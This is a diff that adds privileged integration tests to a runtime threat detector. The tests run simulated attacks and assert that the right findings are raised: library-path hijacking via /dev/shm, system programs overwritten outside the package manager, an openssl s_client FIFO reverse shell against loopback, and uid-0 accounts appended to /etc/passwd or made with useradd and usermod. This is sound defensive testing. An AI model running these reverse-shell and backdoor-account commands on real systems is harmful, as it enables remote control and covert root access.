@@ -982,6 +982,132 @@ fn a_library_preloaded_from_shared_memory() {
     assert!(detect(pid).is_empty(), "a system library preloaded");
 }
 
+/// `LD_LIBRARY_PATH` naming `/dev/shm` (High) or `/tmp` (Medium); a build tree's library
+/// directory outside them raises nothing.
+#[test]
+fn a_library_path_into_shared_memory_or_tmp() {
+    if !privileged("a_library_path_into_shared_memory_or_tmp") {
+        return;
+    }
+    let n = nonce();
+    let mut clean = Cleanup::default();
+    let shm = clean.file(format!("/dev/shm/vigil-{n}"));
+    let tmp = clean.file(std::env::temp_dir().join(format!("vigil-{n}")));
+    let scratch = Scratch::new("libpath");
+    let build = scratch.path("target/debug/deps");
+    for dir in [&shm, &tmp, &build] {
+        std::fs::create_dir_all(dir).expect("a library directory");
+    }
+    // A short environment: the kernel scans the first 64 variables for LD_*.
+    let with = |value: &str| {
+        run(Command::new("/bin/true")
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("LD_LIBRARY_PATH", value))
+    };
+    for (value, dir, label) in [
+        (shm.clone(), &shm, SeverityLabel::High),
+        (format!("/usr/lib:{tmp}"), &tmp, SeverityLabel::Medium),
+    ] {
+        let found = detect(with(&value));
+        let f = of(&found, "behaviour-ld-library-path");
+        assert_eq!(f.len(), 1, "{value}: {:?}", kinds(&found));
+        assert_eq!(
+            f[0].finding_type,
+            "DefenseEvasion:Runtime/SuspiciousCommand"
+        );
+        assert_eq!(f[0].severity_label, label, "{value}");
+        assert_eq!(
+            f[0].context.file_path.as_deref(),
+            Some(format!("{dir}/").as_str())
+        );
+    }
+    let found = detect(with(&build));
+    assert!(found.is_empty(), "a build tree: {:?}", kinds(&found));
+}
+
+/// A program in a system binary directory overwritten by `cp` or replaced by `mv`, by no
+/// package manager; dpkg installing and upgrading its own program there, and `install` into
+/// `/usr/local/bin`, raise nothing at Medium or above.
+#[test]
+fn a_system_program_replaced_outside_the_package_manager() {
+    if !privileged("a_system_program_replaced_outside_the_package_manager") {
+        return;
+    }
+    let n = nonce().to_ascii_lowercase();
+    let mut clean = Cleanup::default();
+    let victim = clean.file(format!("/usr/bin/vigil-{n}"));
+    let sbin_victim = clean.file(format!("/usr/sbin/vigil-{n}"));
+    // The originals, put there by the test process (the agent does not observe it).
+    for v in [&victim, &sbin_victim] {
+        std::fs::copy("/bin/true", v).expect("a program in a system directory");
+    }
+    let scratch = Scratch::new("replace");
+    let evil = scratch.path("evil");
+    std::fs::copy("/bin/false", &evil).expect("the replacement");
+    for (what, script) in [
+        ("cp over /usr/bin", format!("cp {evil} {victim}")),
+        (
+            "mv over /usr/sbin",
+            format!("cp {evil} {evil}2 && mv {evil}2 {sbin_victim}"),
+        ),
+    ] {
+        let found = detect(sh(&script));
+        let f = of(&found, "behaviour-system-binary-replaced");
+        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
+        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
+    }
+    // make install into /usr/local/bin: not a system directory.
+    let local = clean.file(format!("/usr/local/bin/vigil-{n}"));
+    let found = detect(sh(&format!("install -m 755 /bin/true {local}")));
+    assert!(
+        found.is_empty(),
+        "install into /usr/local/bin: {:?}",
+        kinds(&found)
+    );
+    // A package installing, then upgrading, its own program in /usr/bin.
+    if !Path::new("/usr/bin/dpkg").exists() {
+        eprintln!("NOT TESTED system program from a package: no /usr/bin/dpkg");
+        return;
+    }
+    let name = format!("vigil-test-bin-{}", n.replace('x', "-"));
+    let program = format!("/usr/bin/vigil-pkg-{n}");
+    clean.file(&program);
+    let _purge = UndoOnDrop::new("dpkg", &["--purge", &name]);
+    for (version, content) in [("1.0", "/bin/true"), ("1.1", "/bin/false")] {
+        let root = scratch.0.join(format!("pkg-{version}"));
+        std::fs::create_dir_all(root.join("DEBIAN")).expect("DEBIAN");
+        std::fs::create_dir_all(root.join("usr/bin")).expect("usr/bin");
+        std::fs::write(
+            root.join("DEBIAN/control"),
+            format!(
+                "Package: {name}\nVersion: {version}\nArchitecture: all\nMaintainer: Vigil tests <t@example.invalid>\nDescription: Vigil test package\n"
+            ),
+        )
+        .expect("control");
+        let file = root.join(program.trim_start_matches('/'));
+        std::fs::copy(content, &file).expect("the packaged program");
+        let deb = scratch.path(&format!("{name}-{version}.deb"));
+        let built = Command::new("dpkg-deb")
+            .args(["--build", "--root-owner-group"])
+            .arg(&root)
+            .arg(&deb)
+            .stdout(Stdio::null())
+            .status()
+            .expect("dpkg-deb");
+        assert!(built.success(), "dpkg-deb --build");
+        let found = detect(dpkg(&["-i", &deb]));
+        let loud: Vec<_> = found
+            .iter()
+            .filter(|f| f.severity_label >= SeverityLabel::Medium)
+            .map(|f| (f.finding_type.clone(), f.context.file_path.clone()))
+            .collect();
+        assert!(loud.is_empty(), "dpkg -i {version}: {loud:?}");
+    }
+    assert!(Path::new(&program).exists());
+}
+
 #[test]
 fn programs_and_scripts_run_from_memory_backed_and_world_writable_directories() {
     if !privileged("programs_and_scripts_run_from_memory_backed_and_world_writable_directories") {
@@ -2519,6 +2645,111 @@ fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
     }
 }
 
+/// `openssl s_client` as the relay of a FIFO reverse shell, against a loopback `openssl
+/// s_server` that sends `exit`; `openssl s_client` alone and a shell's output piped into it
+/// raise nothing.
+#[test]
+fn a_shell_fed_by_openssl_s_client_is_a_reverse_shell() {
+    if !privileged("a_shell_fed_by_openssl_s_client_is_a_reverse_shell") {
+        return;
+    }
+    if !Path::new("/usr/bin/openssl").exists() {
+        eprintln!("NOT TESTED openssl relay: no /usr/bin/openssl");
+        return;
+    }
+    let scratch = Scratch::new("tls");
+    let (key, cert) = (scratch.path("key.pem"), scratch.path("cert.pem"));
+    let made = Command::new("openssl")
+        .args([
+            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
+        ])
+        .args(["-subj", "/CN=vigil-test", "-keyout", &key, "-out", &cert])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .expect("openssl req");
+    assert!(made.success(), "a self-signed certificate");
+    // A TLS server on loopback that sends `exit` to each client and keeps the line open a
+    // moment (its own process, outside the tree the test looks at).
+    let server = |port: u16| {
+        Command::new("sh")
+            .arg("-c")
+            .arg(format!(
+                "(echo exit; sleep 3) | timeout 20 openssl s_server -quiet -naccept 1 \
+                 -accept 127.0.0.1:{port} -key {key} -cert {cert} >/dev/null 2>&1"
+            ))
+            .stdin(Stdio::null())
+            .spawn()
+            .expect("openssl s_server")
+    };
+    let free_port = || {
+        std::net::TcpListener::bind("127.0.0.1:0")
+            .and_then(|l| l.local_addr())
+            .expect("a free port")
+            .port()
+    };
+    let wait_listening = |port: u16| {
+        let deadline = Instant::now() + WAIT;
+        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+            assert!(Instant::now() < deadline, "s_server on {port}");
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    };
+    let fifo = scratch.path("f");
+    let port = free_port();
+    let mut s = server(port);
+    // The probe connection takes the server's one accept: start the real one after it.
+    wait_listening(port);
+    let _ = s.wait();
+    let mut s = server(port);
+    std::thread::sleep(Duration::from_millis(500));
+    let pid = sh_file(
+        &scratch,
+        "relay.sh",
+        &format!(
+            "rm -f {fifo}; mkfifo {fifo}\n\
+             sh -i < {fifo} 2>&1 | timeout 15 openssl s_client -quiet -connect 127.0.0.1:{port} > {fifo}\n"
+        ),
+    );
+    let found = detect(pid);
+    let _ = s.kill();
+    let _ = s.wait();
+    let f = of(&found, "behaviour-reverse-shell-pipe");
+    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
+    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
+    assert_eq!(f[0].severity_label, SeverityLabel::High);
+    let writer = f[0].context.additional.get("pipeWriter").cloned();
+    assert_eq!(writer.as_deref(), Some("/usr/bin/openssl"));
+    // Benign: the client alone, and a shell's output sent through it.
+    for (what, script) in [
+        (
+            "openssl s_client < /dev/null",
+            "timeout 15 openssl s_client -connect 127.0.0.1:PORT < /dev/null > /dev/null 2>&1\n",
+        ),
+        (
+            "echo | openssl s_client",
+            "echo | timeout 15 openssl s_client -connect 127.0.0.1:PORT > /dev/null 2>&1\n",
+        ),
+    ] {
+        let port = free_port();
+        let mut s = server(port);
+        std::thread::sleep(Duration::from_millis(500));
+        let pid = sh_file(
+            &scratch,
+            "benign.sh",
+            &script.replace("PORT", &port.to_string()),
+        );
+        let found = detect(pid);
+        let _ = s.kill();
+        let _ = s.wait();
+        assert!(
+            of(&found, "behaviour-reverse-shell-pipe").is_empty(),
+            "{what}: {:?}",
+            kinds(&found)
+        );
+    }
+}
+
 /// Puts kernel settings back as they were (written by this process, which the agent does not
 /// observe).
 struct RestoreSettings(Vec<(&'static str, String)>);
@@ -2706,6 +2937,7 @@ fn a_second_root_account_created_with_useradd() {
         return;
     }
     // Short: account names are at most 32 characters.
+    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
     let name = format!("vgl{}r", std::process::id());
     let account = UndoOnDrop::new("userdel", &["-f", &name]);
     let pid = run(Command::new("useradd").args([
@@ -2747,6 +2979,105 @@ fn a_second_root_account_created_with_useradd() {
         &name,
     ]));
     assert!(detect(pid).is_empty(), "useradd -r");
+}
+
+/// Held by the tests that add accounts: a second root account one adds would be seen by the
+/// other's benign cases, which read `/etc/passwd` back.
+static ACCOUNTS: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+/// Removes the lines of `name` from `/etc/passwd` and `/etc/shadow` when dropped (written by
+/// the test process, which the agent does not observe; other lines are left as they are).
+struct AccountLines(String);
+
+impl Drop for AccountLines {
+    fn drop(&mut self) {
+        for file in ["/etc/passwd", "/etc/shadow"] {
+            let Ok(text) = std::fs::read_to_string(file) else {
+                continue;
+            };
+            let prefix = format!("{}:", self.0);
+            if text.lines().any(|l| l.starts_with(&prefix)) {
+                let kept: String = text
+                    .lines()
+                    .filter(|l| !l.starts_with(&prefix))
+                    .map(|l| format!("{l}\n"))
+                    .collect();
+                let _ = std::fs::write(file, kept);
+            }
+        }
+    }
+}
+
+/// The uid-0 accounts a finding names (`behaviour-root-account-added`).
+fn root_accounts_raised(found: &[Finding]) -> Vec<(String, SeverityLabel)> {
+    of(found, "behaviour-root-account-added")
+        .into_iter()
+        .map(|f| {
+            assert_eq!(
+                f.finding_type,
+                "PrivilegeEscalation:Runtime/SuspiciousCommand"
+            );
+            let account = f.context.additional.get("account").cloned();
+            (account.unwrap_or_default(), f.severity_label)
+        })
+        .collect()
+}
+
+/// A uid-0 line in `/etc/passwd`, however it got there, read back from the file after the
+/// write: appended by a script line, `useradd -o -u 0`, `usermod -o -u 0`. An ordinary account
+/// added, its password set, and `vipw` closed without a change raise nothing.
+#[test]
+fn a_second_root_account_read_back_from_the_account_database() {
+    if !privileged("a_second_root_account_read_back_from_the_account_database") {
+        return;
+    }
+    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
+    let id = std::process::id();
+    // Benign first: no second root account may exist while they run.
+    let plain = format!("vgl{id}p");
+    let plain_lines = AccountLines(plain.clone());
+    let plain_account = UndoOnDrop::new("userdel", &["-f", &plain]);
+    let pid = sh(&format!(
+        "useradd -M -d /nonexistent -s /usr/sbin/nologin {plain} && \
+         echo '{plain}:Vigil-test-pw-1' | chpasswd && passwd -l {plain} >/dev/null && \
+         EDITOR=true vipw >/dev/null 2>&1; true"
+    ));
+    let found = detect(pid);
+    assert!(
+        root_accounts_raised(&found).is_empty(),
+        "useradd, chpasswd, passwd -l, vipw: {:?}",
+        kinds(&found)
+    );
+    // A line appended by a script: only the file says who has uid 0.
+    let appended = format!("vgl{id}a");
+    let lines = AccountLines(appended.clone());
+    let pid = sh(&format!(
+        "echo '{appended}:x:0:0::/root:/bin/sh' >> /etc/passwd"
+    ));
+    assert_eq!(
+        root_accounts_raised(&detect(pid)),
+        [(appended.clone(), SeverityLabel::High)]
+    );
+    drop(lines);
+    // The ordinary account given uid 0.
+    let pid = sh(&format!("usermod -o -u 0 {plain}"));
+    assert_eq!(
+        root_accounts_raised(&detect(pid)),
+        [(plain.clone(), SeverityLabel::High)]
+    );
+    drop(plain_account);
+    drop(plain_lines);
+    // useradd -o -u 0: the file as useradd renamed it into place.
+    let made = format!("vgl{id}o");
+    let _made = AccountLines(made.clone());
+    let _undo = UndoOnDrop::new("userdel", &["-f", &made]);
+    let pid = sh(&format!(
+        "useradd -o -u 0 -g 0 -M -d /nonexistent -s /usr/sbin/nologin {made}"
+    ));
+    assert_eq!(
+        root_accounts_raised(&detect(pid)),
+        [(made.clone(), SeverityLabel::High)]
+    );
 }
 
 /// The password hashes read by whatever program and path: the kernel reports the open of the
